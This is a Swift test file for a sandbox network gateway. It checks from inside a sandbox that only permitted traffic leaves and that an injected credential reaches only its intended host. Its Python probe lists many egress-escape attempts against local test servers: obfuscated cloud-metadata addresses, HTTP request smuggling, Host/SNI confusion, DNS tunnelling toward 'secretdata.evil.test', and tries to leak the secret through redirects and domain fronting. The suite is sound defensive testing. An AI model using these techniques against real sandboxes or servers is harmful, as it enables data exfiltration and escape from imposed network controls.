import Foundation
import Glibc
import RookeryConfiguration
import RookeryGateway
import RookeryModel
import RookeryTestSupport
import Synchronization
import Testing

@testable import RookerySandbox

/// From inside real sandboxes: what leaves, in which form, and what does not, however it is tried.
@Suite(.serialized) struct EgressTests {
  /// A web server beyond the sandbox, on a loopback address of this test's own, and what it was asked.
  private final class Outside: Sendable {
    let address = "127.\(Int.random(in: 50...250)).\(Int.random(in: 1...250)).\(Int.random(in: 1...250))"
    let directory: TemporaryDirectory
    let authority: InstallationAuthority
    private let servers: Process

    static let names = ["open.test", "secret.test", "registry.test", "api.test", "elsewhere.test", "git.test", "late.test"]

    init() throws {
      directory = try TemporaryDirectory(prefix: "rookery-outside")
      authority = try InstallationAuthority()
      let certificate = try authority.certificate(for: Set(Self.names.compactMap { HostName($0) }))
      try directory.write(certificate.chain, to: "chain.pem")
      try directory.write(certificate.key.reveal(), to: "key.pem")
      try directory.write(authority.certificate + "\n", to: "authority.pem")
      try directory.write(Self.script, to: "server.py")
      servers = Process()
      servers.executableURL = URL(fileURLWithPath: "/usr/bin/env")
      servers.arguments = ["python3", directory.path("server.py"), address, directory.path]
      try servers.run()
    }

    func ready() async throws {
      try await eventually { FileManager.default.fileExists(atPath: self.directory.path("ready")) }
    }

    /// A child of a thread that blocks signals, as those of dispatch do, blocks them, too: only this one always reaches it.
    func stop() { kill(servers.processIdentifier, SIGKILL) }

    /// Everything that was asked, as JSON lines.
    var log: String { (try? String(contentsOfFile: directory.path("log"), encoding: .utf8)) ?? "" }

    private static let script = """
      import http.server, json, ssl, sys, threading
      address, directory = sys.argv[1:]
      class Handler(http.server.BaseHTTPRequestHandler):
          protocol_version = "HTTP/1.1"
          def answer(self):
              length = int(self.headers.get("Content-Length") or 0)
              body = self.rfile.read(length).decode()
              text = json.dumps({"method": self.command, "path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()},
                                 "tls": isinstance(self.connection, ssl.SSLSocket), "body": body})
              with open(directory + "/log", "a") as log: log.write(text + "\\n")
              if self.path.startswith("/redirect"):
                  self.send_response(302); self.send_header("Location", "https://elsewhere.test/landed"); text = ""
              else:
                  self.send_response(200)
              data = text.encode()
              self.send_header("Content-Length", str(len(data))); self.end_headers()
              if self.command != "HEAD": self.wfile.write(data)
          do_GET = do_HEAD = do_POST = do_PUT = do_DELETE = answer
          def log_message(self, *rest): pass
      plain = http.server.ThreadingHTTPServer((address, 80), Handler)
      secure = http.server.ThreadingHTTPServer((address, 443), Handler)
      context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
      context.load_cert_chain(directory + "/chain.pem", directory + "/key.pem")
      secure.socket = context.wrap_socket(secure.socket, server_side=True)
      threading.Thread(target=plain.serve_forever, daemon=True).start()
      open(directory + "/ready", "w").close()
      secure.serve_forever()
      """
  }

  private static let secret = "wire-secret-4711"

  /// A stack with a sandbox whose grant comes from the policy.
  private func withSandbox(
    _ body: @escaping @Sendable (SandboxStack, Outside, any Sandbox, Grant) async throws -> Void
  ) async throws {
    let outside = try Outside()
    defer { outside.stop() }
    try await outside.ready()
    try await SandboxStack.with(adjust: { configuration, gateway in
      gateway.extraAuthorities = outside.directory.path("authority.pem")
      for name in Outside.names { gateway.fixedAddresses[name] = [outside.address] }
      gateway.fixedAddresses["rebound.test"] = ["169.254.169.254"]
      gateway.fixedAddresses["inner.test"] = ["10.0.0.1", "::ffff:127.0.0.1", "fd00::1", "100.64.0.1", "127.0.0.1"]
      configuration.network.privateHosts += Outside.names.flatMap { ["\($0):80", "\($0):443"] }
      configuration.network.registries = ["https://registry.test/simple"]
      configuration.secrets["TOKEN"] = try? Self.wireSecret()
      for name in configuration.repositories.keys {
        configuration.repositories[name]?.hosts = ["open.test", "*.wild.test", "rebound.test", "inner.test"].compactMap { HostPattern($0) }
        configuration.repositories[name]?.secrets = ["TOKEN"]
        configuration.repositories[name]?.requestableHosts = ["late.test"].compactMap { HostPattern($0) }
        configuration.repositories[name]?.forge = .init(kind: .github, apiURL: "https://api.test", repository: "acme/web")
      }
    }) { stack in
      try await stack.git.makeRepository("app")
      _ = try await stack.add()
      try await stack.provider.configureNetwork(try await stack.repositories.networkSetup())
      let sandbox = try await stack.provider.create(
        CreateSandbox(
          id: .random(prefix: "t-"), source: .base(SandboxStack.base), limits: Limits(memoryMB: 512, processes: 256), bundles: []))
      let (grant, _) = try await stack.repositories.grant(
        of: sandbox.id, for: stack.name, environment: nil, pushRef: nil, expires: Date(timeIntervalSinceNow: 600))
      try await stack.gateway.grant(grant)
      try await body(stack, outside, sandbox, grant)
    }
  }

  private static func wireSecret() throws -> Configuration.WireSecret? {
    let yaml = "secrets: {TOKEN: {env: TOKEN, hosts: [secret.test]}}"
    let file = try TemporaryDirectory(prefix: "rookery-secret")
    try file.write(yaml, to: "rookery.yaml")
    return try Configuration.load(file: file.path("rookery.yaml"), environment: ["TOKEN": secret]).secrets["TOKEN"]
  }

  /// What a shell script prints, as the agent's account.
  private func run(_ script: String, in sandbox: any Sandbox) async throws -> (code: ProcessExit, text: String) {
    let result = try await sandbox.run(
      ProcessSpec(
        id: .random(prefix: "p-"), argv: ["/bin/sh", "-c", "exec 2>&1; " + script], environment: BuildShell.environment(of: .agent),
        directory: "/tmp", account: .agent))
    return (result.exit, result.output)
  }

  private func refusals(_ stack: SandboxStack, of sandbox: SandboxID) async throws -> [NetworkRefused] {
    try await stack.gateway.reports(after: 0).filter { $0.sandbox == sandbox }.compactMap {
      if case .refused(let refusal) = $0.kind { refusal } else { nil }
    }
  }

  @Test func whatIsAllowedWorksForProgramsThatKnowOfNoProxy() async throws {
    try await withSandbox { stack, outside, sandbox, _ in
      for url in ["http://open.test/a?b=c", "http://OPEN.test./a"] {
        let answer = try await run("curl -sS '\(url)'", in: sandbox)
        #expect(answer.text.contains(#""method": "GET""#) && answer.text.contains(#""tls": false"#), "\(url): \(answer.text)")
      }
      // Passed through: the certificate is the other side's own, which the sandbox does not know.
      let opaque = try await run("curl -sS https://open.test/x; curl -skS https://open.test/tunnel", in: sandbox)
      #expect(opaque.text.contains("certificate") && opaque.text.contains("/tunnel"), "\(opaque.text)")
      // Ended in the gateway: every program trusts it.
      for command in [
        "curl -sS https://registry.test/simple/",
        "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://registry.test/simple/\").read())'",
        "git -c http.followRedirects=false ls-remote https://registry.test/simple",
        "/usr/lib/apt/apt-helper download-file https://registry.test/simple/ /tmp/got; cat /tmp/got",
      ] {
        let answer = try await run(command, in: sandbox)
        #expect(!answer.text.lowercased().contains("certificate"), "\(command): \(answer.text)")
      }
      #expect(outside.log.contains("/simple/info/refs") == false)
      let head = try await run("curl -sSI https://registry.test/simple/ && curl -sS https://registry.test/again", in: sandbox)
      #expect(head.code == .code(0) && head.text.contains("HTTP/1.1 200") && head.text.contains("/again"), "\(head.text)")
      #expect(try await refusals(stack, of: sandbox.id).allSatisfy { $0.host == "registry.test" })
    }
  }

  @Test func secretsArePlacedAndNothingElseIs() async throws {
    try await withSandbox { stack, outside, sandbox, _ in
      let own = "-H 'Authorization: Bearer mine' -H 'Cookie: a=mine' -H 'X-Api-Key: mine' -u me:mine"
      let answer = try await run("curl -sS \(own) -d data https://secret.test/use", in: sandbox)
      #expect(answer.text.contains(#""authorization": "Bearer \#(Self.secret)""#) && !answer.text.contains("mine"), "\(answer.text)")
      let attempts = [
        // Not in the clear, not across a redirect, not to another host on the same connection, not for another name.
        "curl -sS http://secret.test/plain", "curl -sSL https://secret.test/redirect",
        "curl -sSk -H 'Host: elsewhere.test' https://secret.test/x",
        "curl -sSk -H 'Host: secret.test' https://open.test/fronted", "curl -sS \(own) https://registry.test/simple/",
        "curl -sS \(own) -X POST -d x https://registry.test/upload", "curl -sS 'https://registry.test/x?access_token=mine'",
        "curl -sS \(own) https://api.test/user", "curl -sS \(own) -X POST -d x https://api.test/repos/acme/web/issues",
        "curl -sS \(own) https://api.test/repos/acme/web/issues",
        "curl -sS \(own) https://api.test/repos/acme/web/../../evil/x --path-as-is",
      ]
      var texts = ""
      for attempt in attempts { texts += try await run(attempt, in: sandbox).text }
      #expect(!texts.contains(Self.secret))
      let asked = outside.log.split(separator: "\n")
      #expect(asked.filter { $0.contains(Self.secret) }.allSatisfy { $0.contains("/use") || $0.contains("/redirect") }, "\(asked)")
      #expect(
        !asked.contains { $0.contains("mine") || $0.contains("/landed") || $0.contains("/plain") || $0.contains("/user") }, "\(asked)")
      #expect(!asked.contains { $0.contains("POST") && !$0.contains("/use") }, "\(asked)")
      #expect(asked.contains { $0.contains("/repos/acme/web/issues") && $0.contains("GET") }, "\(texts)")
      // Nothing in the sandbox holds it, either.
      let search = try await run("env; cat /run/rookery/* 2>/dev/null | head -c 4000000", in: sandbox)
      #expect(!search.text.contains(Self.secret) && !search.text.contains("PRIVATE KEY"))
      #expect(try await refusals(stack, of: sandbox.id).contains { $0.host == "api.test" && $0.port == 443 })
    }
  }

  @Test func nothingElseLeaves() async throws {
    try await withSandbox { stack, outside, sandbox, _ in
      let probe = Self.probe
      let results = try await run("cat > /tmp/probe.py <<'P'\n\(probe)\nP\npython3 /tmp/probe.py", in: sandbox)
      let lines = results.text.split(separator: "\n")
      #expect(lines.last == "done", "\(results.text)")
      for line in lines { #expect(!line.hasPrefix("ESCAPED"), "\(line)") }
      #expect(outside.log.isEmpty, "\(outside.log)")
      // A flood of refusals is told of, and not in full.
      let told = try await refusals(stack, of: sandbox.id)
      #expect((10...35).contains(told.count), "\(told.count)")
    }
  }

  @Test(.timeLimit(.minutes(2))) func refusalsNameTheProgram() async throws {
    try await withSandbox { stack, _, sandbox, _ in
      let script = """
        import socket, ssl, time
        def tried(attempt):
            try: attempt()
            except Exception as error: print(error)
        def request(head):
            s = socket.create_connection(("1.2.3.4", 80), 10); s.sendall(head); return s.recv(100)
        context = ssl._create_unverified_context()
        tried(lambda: socket.getaddrinfo("forbidden.test", 443))
        tried(lambda: context.wrap_socket(socket.create_connection(("1.2.3.4", 443), 10), server_hostname="forbidden.test"))
        tried(lambda: request(b"GET / HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n"))
        tried(lambda: request(b"\\0 no protocol of ours"))
        tried(lambda: socket.create_connection(("1.1.1.1", 22), 10))
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("1.1.1.1", 123)); s.send(b"x"); time.sleep(1)
        """
      _ = try await run("python3 - <<'P'\n\(script)\nP", in: sandbox)
      let told = Mutex<[NetworkRefused]>([])
      do {
        try await eventually(timeout: .seconds(40)) {
          let refusals = try await refusals(stack, of: sandbox.id)
          told.withLock { $0 = refusals }
          func isTold(_ host: String, _ port: Int, _ process: String?) -> Bool {
            refusals.contains { $0.host == host && $0.port == port && $0.process == process }
          }
          // A socket that the kernel reset is nobody's any more.
          return isTold("forbidden.test", 53, "python3") && isTold("forbidden.test", 443, "python3") && isTold("plain.test", 80, "python3")
            && isTold("1.2.3.4", 80, "python3") && isTold("1.1.1.1", 22, nil) && isTold("1.1.1.1", 123, "python3")
        }
      } catch {
        Issue.record("\(told.withLock { $0 })")
      }
    }
  }

  @Test func aChangedPolicyHoldsForConnectionsThatAreOpen() async throws {
    try await withSandbox { stack, _, sandbox, grant in
      let script = """
        python3 - <<'P'
        import socket, ssl, sys, time
        context = ssl._create_unverified_context()
        s = context.wrap_socket(socket.create_connection(("open.test", 443)), server_hostname="open.test")
        s.sendall(b"GET /1 HTTP/1.1\\r\\nHost: open.test\\r\\n\\r\\n")
        answer = b""
        while not answer.endswith(b'"body": ""}'): answer += s.recv(1000)
        open("/tmp/open", "w").close()
        s.settimeout(60)
        try: print("end" if s.recv(1000) == b"" else "data")
        except OSError as e: print("cut", e)
        P
        """
      async let cut = run(script, in: sandbox)
      try await eventually { try await run("test -e /tmp/open", in: sandbox).code == .code(0) }
      var narrower = grant
      narrower.network.sites.removeAll { $0.host.name.text == "open.test" }
      try await stack.gateway.grant(narrower)
      let text = try await cut.text
      #expect(text.contains("end") || text.contains("cut"), "\(text)")
      let again = try await run("curl -sS --max-time 20 https://open.test/", in: sandbox)
      #expect(!again.code.succeeded)
      // What the environment file asks for is granted where the operator lets it.
      var environment = EnvironmentFile()
      environment.hosts = ["late.test", "never.test", "*.test"]
      let (wider, outcome) = try await stack.repositories.grant(
        of: sandbox.id, for: stack.name, environment: environment, pushRef: nil, expires: grant.expires)
      try await stack.gateway.grant(wider)
      #expect(outcome.denied.count == 2 && outcome.denied.allSatisfy { !$0.contains("late.test") })
      #expect(try await run("curl -sS --max-time 20 http://late.test/now", in: sandbox).text.contains("/now"))
      try await stack.gateway.revoke(sandbox.id)
      #expect(try await !run("curl -sS --max-time 20 http://late.test/gone", in: sandbox).text.contains("/gone"))
    }
  }

  @Test func gitEndsInItsBrokerWhateverAddressIsUsed() async throws {
    try await withSandbox { stack, outside, sandbox, grant in
      try await stack.git.makeRepository("other")
      var gitGrant = grant
      // The host's own name, at the port of this test's server for plain HTTP.
      let port = stack.git.url(for: "app").split(separator: ":").last?.prefix { $0 != "/" } ?? ""
      let path = URL(string: stack.git.url(for: "app"))?.path ?? ""
      #expect(Int(port) != nil && path.contains("app"))
      gitGrant.git[0].url = "https://git.test\(path)"
      gitGrant.network.sites.append(.init(host: try #require(HostPattern("git.test")), access: .git))
      gitGrant.network.certificate = try stack.repositories.policy.authority.certificate(
        for: Set(gitGrant.network.sites.filter(\.isIntercepted).map(\.host.name)))
      try await stack.gateway.grant(gitGrant)
      let mine = "-c http.extraHeader='Authorization: Basic bWluZTptaW5l'"
      let allowed = try await run("git \(mine) ls-remote https://git.test\(path)", in: sandbox)
      let other = try await run("git \(mine) ls-remote https://git.test/evil/other.git", in: sandbox)
      let push = try await run("cd /tmp && git init -q x && cd x && git \(mine) push https://git.test/evil/other.git HEAD", in: sandbox)
      let page = try await run("curl -sS https://git.test/api/v4/user -H 'Private-Token: mine'", in: sandbox)
      #expect(!allowed.code.succeeded || allowed.text.contains("refs/"))
      #expect(!other.code.succeeded && !push.code.succeeded && page.text.contains("git"), "\(other.text) \(push.text) \(page.text)")
      let asked = outside.log.split(separator: "\n")
      // Only the session's repository was asked for, with the operator's credential in place of the sandbox's own.
      #expect(!asked.isEmpty && asked.allSatisfy { $0.contains(path) && !$0.contains("bWluZTptaW5l") }, "\(asked)")
    }
  }

  /// Ways out that are known to have worked somewhere.
  private static let probe = #"""
    import errno, os, socket, ssl, struct, time
    def tried(name, attempt):
        start = time.time()
        try:
            result = attempt()
            print("ESCAPED" if result else "refused", name, result, f"{time.time() - start:.2f} s")
        except Exception as error:
            print("refused", name, type(error).__name__, error, f"{time.time() - start:.2f} s")
    def tls(host, name, port=443):
        context = ssl._create_unverified_context()
        context.check_hostname = False
        s = context.wrap_socket(socket.create_connection((host, port), 10), server_hostname=name)
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        return s.recv(100)
    def http(host, head, port=80):
        s = socket.create_connection((host, port), 10); s.settimeout(20)
        s.sendall(head); answer = s.recv(4000)
        return answer if answer.startswith(b"HTTP/1.1 2") or answer.startswith(b"HTTP/1.1 3") else b""
    get = lambda target, host: f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
    # Metadata and private addresses in every spelling, by address and by Host.
    for spelling in ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[::ffff:169.254.169.254]",
                     "[fd00:ec2::254]", "127.0.0.1", "127.1", "0", "localhost", "10.0.0.1", "192.168.1.1", "100.64.0.1", "metadata.google.internal",
                     "instance-data", "169.254.169.254.nip.io", "open.test.169.254.169.254"]:
        tried("host " + spelling, lambda: http("1.2.3.4", get("/latest/meta-data/", spelling)))
        tried("sni " + spelling, lambda: tls("1.2.3.4", spelling.strip("[]")))
    tried("by address", lambda: http("169.254.169.254", get("/", "169.254.169.254")))
    # Names that are allowed and lead inwards.
    for name in ["rebound.test", "inner.test"]:
        tried("http " + name, lambda: http("1.2.3.4", get("/", name)))
        tried("tls " + name, lambda: tls("1.2.3.4", name))
    # Another name, no name, an address.
    tried("forbidden name", lambda: socket.getaddrinfo("forbidden.test", 443))
    tried("forbidden sni", lambda: tls("1.2.3.4", "forbidden.test"))
    tried("no sni", lambda: tls("1.2.3.4", None))
    tried("wildcard's own name", lambda: tls("1.2.3.4", "wild.test"))
    tried("suffix", lambda: tls("1.2.3.4", "open.test.evil.test"))
    # Requests that two servers read differently.
    for name, request in [
        ("absolute form", get("http://forbidden.test/", "open.test")), ("absolute form, allowed", get("http://open.test/", "forbidden.test")),
        ("connect", b"CONNECT forbidden.test:443 HTTP/1.1\r\nHost: forbidden.test:443\r\n\r\n"),
        ("connect, allowed", b"CONNECT open.test:443 HTTP/1.1\r\nHost: open.test:443\r\n\r\n"),
        ("two hosts", b"GET / HTTP/1.1\r\nHost: open.test\r\nHost: forbidden.test\r\n\r\n"),
        ("no host", b"GET / HTTP/1.1\r\n\r\n"), ("http/1.0", b"GET / HTTP/1.0\r\n\r\n"),
        ("user in host", get("/", "open.test@forbidden.test")), ("port in host", get("/", "open.test:22")),
        ("cl and te", b"POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n"),
        ("te te", b"POST / HTTP/1.1\r\nHost: open.test\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
        ("two lengths", b"POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab"),
        ("folded", b"GET / HTTP/1.1\r\nHost: open.test\r\nX: a\r\n b\r\n\r\n"), ("bare lf", b"GET / HTTP/1.1\nHost: open.test\n\n"),
        ("upgrade", b"GET / HTTP/1.1\r\nHost: open.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"),
        ("h2c", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), ("dots", get("/a/../b", "open.test")), ("encoded dots", get("/a/%2e%2e/b", "open.test")),
        ("long header", b"GET / HTTP/1.1\r\nHost: open.test\r\nX: " + b"a" * 200000 + b"\r\n\r\n"),
        ("many headers", b"GET / HTTP/1.1\r\nHost: open.test\r\n" + b"".join(b"X%d: a\r\n" % n for n in range(2000)) + b"\r\n"),
    ]: tried(name, lambda: http("1.2.3.4", request))
    def big_hello():
        s = socket.create_connection(("1.2.3.4", 443), 10); s.settimeout(20)
        for _ in range(20): s.sendall(b"\x16\x03\x01\x40\x00" + b"\x01\x00\xff\xff" + b"a" * 16380)
        return s.recv(10) not in (b"",) and False
    tried("oversized hello", big_hello)
    # Other ports and protocols.
    for host, port in [("1.1.1.1", 22), ("1.1.1.1", 25), ("1.1.1.1", 853), ("open.test", 22), ("169.254.169.254", 8080), ("2606:4700::1111", 853)]:
        start = time.time()
        tried(f"tcp {host}:{port}", lambda: socket.create_connection((host, port), 10))
        if time.time() - start > 5: print("ESCAPED slow", host, port)
    def udp(host, port, family=socket.AF_INET):
        s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(3); s.connect((host, port)); s.send(b"x" * 1200); return s.recv(10)
    for host, port in [("1.1.1.1", 443), ("1.1.1.1", 123), ("169.254.169.254", 80), ("8.8.8.8", 5353)]: tried(f"udp {host}:{port}", lambda: udp(host, port))
    tried("udp v6", lambda: udp("2606:4700::1111", 53, socket.AF_INET6))
    tried("ping socket", lambda: (lambda s: (s.settimeout(3), s.sendto(b"\x08\0\0\0\0\0\0\0", ("1.1.1.1", 0)), s.recv(10)))(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)))
    tried("raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    # Any name server that is asked is ours; tunnels through names lead nowhere.
    def name(server, question, kind):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10); s.connect((server, 53))
        s.send(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l.encode() for l in question.split(".")) + b"\0" + struct.pack(">HH", kind, 1))
        answer = s.recv(600)
        return answer if struct.unpack(">H", answer[6:8])[0] else b""
    for server in ["8.8.8.8", "198.18.0.53"]:
        for question, kind in [("secretdata.evil.test", 1), ("secretdata.evil.test", 16), ("open.test", 65), ("open.test", 64), ("open.test", 28), ("open.test", 16)]:
            tried(f"name {question} {kind} at {server}", lambda: name(server, question, kind))
    # Ours, dialled directly: without a redirection they serve nobody.
    for port in [61420, 61421]:
        tried(f"own socket {port}", lambda: http("127.0.0.1", get("/", "open.test"), port))
        tried(f"own socket {port} tls", lambda: tls("127.0.0.1", "open.test", port))
    print("done")
    """#
}
